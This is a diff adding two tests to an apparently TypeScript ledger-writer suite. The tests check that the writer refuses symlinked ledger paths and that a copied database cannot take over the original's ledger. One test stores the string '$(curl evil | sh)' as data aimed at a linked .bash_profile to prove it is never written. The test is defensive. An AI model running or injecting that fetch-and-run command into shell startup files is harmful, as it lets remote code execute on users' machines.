@@ -2,6 +2,7 @@ import { copyFileSync, existsSync, readFileSync, renameSync, symlinkSync, writeF
 import { dirname, join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import { openNative } from '../../core/db/native.ts'
+import { LcmError } from '../../core/errors.ts'
 import { sha256 } from '../../core/ledger/ledger-line.ts'
 import { ledgerState } from '../../core/ledger/ledger-permission.ts'
 import { LedgerWriter } from '../../core/ledger/ledger-writer.ts'
@@ -120,6 +121,26 @@ describe('the ledger path that a memory file states', () => {
     expect(readFileSync(profile, 'utf8')).toBe(PROFILE.repeat(100))
   })
 
+  it('is not begun through a link that leads to no file yet, however it came to stand there', () => {
+    const path = join(temporaryFolder(), 'lcm.db')
+    const profile = join(dirname(path), '.bash_profile')
+    const ledger = join(dirname(path), 'lcm.events.jsonl')
+    symlinkSync(profile, ledger)
+    openNative(path).close()
+    const lcm = openHere(path)
+    say(lcm, 's', ['$(curl evil | sh)'])
+    lcm.close()
+    const db = openNative(path)
+    const writer = new LedgerWriter(db, Date.now, permissionOf(path))
+    expect(() => writer.enable(ledger)).toThrow(expect.objectContaining({ code: 'invalid_argument' }))
+    renameSync(ledger, `${ledger}.away`)
+    writer.enable(ledger)
+    renameSync(`${ledger}.away`, ledger)
+    expect(() => writer.drain()).toThrow(LcmError)
+    db.close()
+    expect(existsSync(profile)).toBe(false)
+  })
+
   it('is not even read by the checks where nobody agreed to it', async () => {
     // Reading a pipe would wait for ever; a path on another computer would be told who asks.
     const path = hostileMemory('/dev/zero', join(temporaryFolder(), 'lcm.db'))
@@ -171,6 +192,25 @@ describe('a copied memory', () => {
     expect(await ledgerFindings(again)).toEqual([])
     expect(readFileSync(ledger, 'utf8')).toContain('"two"')
     again.close()
+  })
+
+  it('may not take over a ledger that goes on after what it has written, and leaves it to the original', () => {
+    const { path, ledger } = keptMemory()
+    const copy = join(dirname(path), 'copy.db')
+    copyFileSync(path, copy)
+    const original = openHere(path)
+    say(original, 's', ['said after the copy was made'])
+    original.close()
+    renameSync(path, `${path}.away`)
+    const db = openNative(copy)
+    const writer = new LedgerWriter(db, Date.now, permissionOf(copy))
+    expect(() => writer.agree()).toThrow(/goes on after what this memory has written/)
+    db.close()
+    renameSync(`${path}.away`, path)
+    const again = openHere(path)
+    say(again, 's', ['said by the original'])
+    again.close()
+    expect(readFileSync(ledger, 'utf8')).toContain('said by the original')
   })
 
   it('is refused the ledger that the settings name while the original keeps it', () => {
